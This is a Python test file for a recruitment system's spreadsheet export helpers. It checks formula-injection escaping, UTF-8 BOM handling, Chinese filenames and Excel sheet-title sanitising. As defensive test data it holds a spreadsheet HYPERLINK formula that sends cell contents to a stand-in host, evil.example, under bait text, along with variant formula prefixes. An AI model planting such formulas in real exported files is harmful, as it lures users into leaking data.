"""Spreadsheet downloads never carry a live formula, and Chinese text opens in Excel."""

from __future__ import annotations

import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from recruitment.exports import csv_response, sheet_title, spreadsheet_safe, xlsx_response

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此领取补贴")'


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)"],
)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "a=b", "13800138000", "", " =1"])
def test_other_text_is_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_numbers_dates_and_none_are_not_text():
    day = date(2026, 11, 22)
    assert spreadsheet_safe(-5) == -5
    assert spreadsheet_safe(2.5) == 2.5
    assert spreadsheet_safe(day) is day
    assert spreadsheet_safe(None) is None
    assert spreadsheet_safe(True) is True


def _body(response) -> bytes:
    return b"".join(response.streaming_content)


def test_csv_response_has_a_bom_escapes_formulas_and_names_the_file():
    response = csv_response("申请人.csv", ["姓名", "备注"], [[FORMULA, "-1"], ["张三", 7]])
    body = _body(response)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    assert "filename*=utf-8''%E7%94%B3%E8%AF%B7%E4%BA%BA.csv" in response["Content-Disposition"]
    assert body.startswith(b"\xef\xbb\xbf")
    lines = body.decode("utf-8-sig").splitlines()
    assert lines[0] == "姓名,备注"
    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点此领取补贴"")",\'-1'
    assert lines[2] == "张三,7"


def test_csv_response_streams_a_lazy_iterator():
    rows = ([i, f"=A{i}"] for i in range(3))
    body = _body(csv_response("a.csv", ["n", "f"], rows)).decode("utf-8-sig")
    assert body.splitlines()[1:] == ["0,'=A0", "1,'=A1", "2,'=A2"]


def test_xlsx_response_stores_formula_like_text_as_text():
    shanghai = datetime(2026, 11, 22, 9, 30, tzinfo=ZoneInfo("Asia/Shanghai"))
    response = xlsx_response(
        "errors.xlsx",
        ["姓名", "时间", "数"],
        [[FORMULA, shanghai, 3], ["bad\x07char", None, -1]],
        title="错误[1]",
    )
    sheet = load_workbook(io.BytesIO(response.content)).active

    assert sheet.title == "错误 1"
    assert sheet["A2"].value == "'" + FORMULA
    assert sheet["A2"].data_type == "s"
    assert sheet["B2"].value == datetime(2026, 11, 22, 9, 30)
    assert sheet["C2"].value == 3
    assert sheet["A3"].value == "badchar"  # a control character would break the file
    assert sheet["C3"].value == -1


def test_sheet_titles_are_made_acceptable_to_excel():
    assert sheet_title("a/b:c*d?e[f]g\\h") == "a b c d e f g h"
    assert sheet_title("'" + "长" * 40) == "长" * 31
    assert sheet_title("''") == "Sheet"
